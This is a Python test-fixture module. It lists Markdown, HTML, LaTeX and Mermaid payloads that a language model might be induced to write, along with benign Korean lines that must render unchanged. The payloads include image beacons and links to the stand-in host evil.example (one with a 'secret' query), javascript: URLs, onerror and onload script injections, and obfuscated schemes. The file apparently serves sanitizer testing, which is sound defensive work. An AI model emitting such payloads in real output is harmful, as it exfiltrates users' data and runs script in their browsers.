"""What a model may be made to write so that a reader's browser does something, and honest text that must stay as it is.

Each payload asks for ``http://evil.example/<its name>`` where it asks for anything, so that the server of that host sees
which one got through.
"""

from __future__ import annotations

import re
from types import MappingProxyType

STRANGER = "evil.example"

LINKS = {
    "1": "https://news.example/a?b=1&c=$2",
    "2": "https://ko.example/글_(뜻)",
    "3": "",
    "12:41": "https://video.example/v?t=761",
}
OURS = {
    "https://news.example/a?b=1&c=%242",
    "https://ko.example/%EA%B8%80_%28%EB%9C%BB%29",
    "https://video.example/v?t=761",
}
"""The addresses of ``LINKS`` as they are written."""

_PICTURES = {
    "inline-image": "![그림](@)",
    "image-title": "![그림](@ '제목')",
    "image-reference": "![그림][b]\n\n[b]: @ '제목'",
    "image-collapsed": "![b][]\n\n[b]: @",
    "image-shortcut": "![b]\n\n[b]: <@>",
    "image-on-citation": "좋아요![1]\n\n[1]: @",
    "image-in-link": "[![그림](@)](@)",
    "image-in-table": "| a |\n|---|\n| ![](@) |",
    "image-entity-colon": "![](http&colon;//evil.example/image-entity-colon)",
    "image-entity-brackets": "&excl;&lsqb;x&rsqb;(@) !&#91;x&#93;(@)",
    "image-wide-dot": "![](http://evil。example/image-wide-dot)",
    "image-no-scheme": "![](//evil.example/image-no-scheme)",
    "image-escaped-sign": "\\![x](@) \\\\![x](@)",
    "image-hidden-signs": "![x\u200b](@?q=\u202egnp.p)",
    "image-data": "![](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>)",
    "image-in-brackets": "[a![b](@)c] [![b](@)",
}
_LINKS = {
    "link-inline": "[여기](@)",
    "link-no-scheme": "[여기](//evil.example/x)",
    "link-javascript": "[여기](javascript:alert(1))",
    "link-javascript-coded": "[여기](JaVaScRiPt&#58;alert(1)) [여기](java&Tab;script&colon;alert(1))",
    "link-reference": "[a]: @\n[a]: @\n\n[A] [a][] [b][a]",
    "link-login": "[뉴스](https://news.example@evil.example/) <https://news.example:x@evil.example>",
    "link-on-citation": "[1](@) [1]\n\n[1]: @",
    "link-on-moment": "[12:41](@)",
    "link-relative": "[여기](/app/static/x) [여기](?run=1) [여기](#top)",
    "autolink-pointed": "<@> <javascript:alert(1)> <a@evil.example> <mailto:a@evil.example>",
    "autolink-bare": "@?q=비밀 www.evil.example a@evil.example HTTPS://EVIL.EXAMPLE",
    "autolink-mail-signs": "a-@evil.example a.@evil.example b+@evil.example c@-evil.example _@evil.example",
    "autolink-in-signs": "(@), “www.evil.example”. @`x` **@** |@|",
    "autolink-put-together": "http:/![](x)/evil.example http:/[](x)/evil.example http:/**[9]**/evil.example",
    "autolink-halved-host": "w[w](x)w.evil.example ww[9]w.evil.example",
    "autolink-halved-number": "http:/[1[9]2]/evil.example",
}
_DRAWN = {
    "html-image": "<img src=@ onerror=alert(1)> <img src=x onerror=alert(1)>",
    "html-script": "<script>alert(1)</script>\n\n<div style='background:url(@)'>\n",
    "html-odd": "<!-- x --> <?x ?> <![CDATA[<img src=@>]]> <!DOCTYPE x>",
    "html-coded": "&lt;img src=@ onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "formula": "$\\href{@}{x}$ $$\\includegraphics{@}$$ $\\url{@}$",
    "formula-fence": "```math\n\\href{@}{x}\n```",
    "mermaid-fence": '```mermaid\ngraph LR\nA[<img src=@>] --> B\nclick A "javascript:alert(1)"\n```',
    "directives": ":red[x]{onclick=1} :blue-background[x] ::leaf[x] :::box\nx\n:::",
    "badges-and-icons": ":red-badge[![x](@)] :material/star: :streamlit: :small[[x](@)]",
}
_CODE = {
    "code-beside-an-address": "``@`![x](@)`",
    "code-ends-early": "`` ` ` `` `![x](@)` ```` ``` ```` `` a ` ![y](@)",
    "fence-ends-early": "~~~\n```\n~~~\n![x](@)\n\n```\n``` x\n~~~\n[x](@)",
    "code-in-table": "| `a | ![x](@) | b` |\n|---|---|\n| `\\|` | ![y](@) |",
}


_ADDRESS = re.compile(r"(?<![\w:])@(?!evil)")
"""Stands for a payload's own address; in mail addresses and logins the sign is what it is."""
PAYLOADS = MappingProxyType(
    {name: _ADDRESS.sub(f"http://{STRANGER}/{name}", text) for name, text in {**_PICTURES, **_LINKS, **_DRAWN, **_CODE}.items()}
)

HONEST = (
    "오늘은 **메모리 대역폭**을 이야기해요.",
    "3 < 5 이고 5 > 3 이에요.",
    "가격은 $5 이고 배송은 $3 이에요.",
    "12:30에 시작해서 13:05에 끝나요.",
    "50%에서 3~5개, 약 1,234.5원",
    "변수 a_b_c 와 2*3*4 는 그대로예요.",
    "`print('안녕')` 을 실행해요.",
    "*기울인 말*과 ~~지운 말~~",
    "경로는 C:\\Users\\나 예요.",
    "a | b 가운데 막대",
    "비율은 3:2, 점수는 2:0",
    "#해시태그 와 @이름",
    "1986. 올림픽",
    "a < b && b > c || !d",
)
"""Lines that keep their words in a paragraph, a list and a table."""
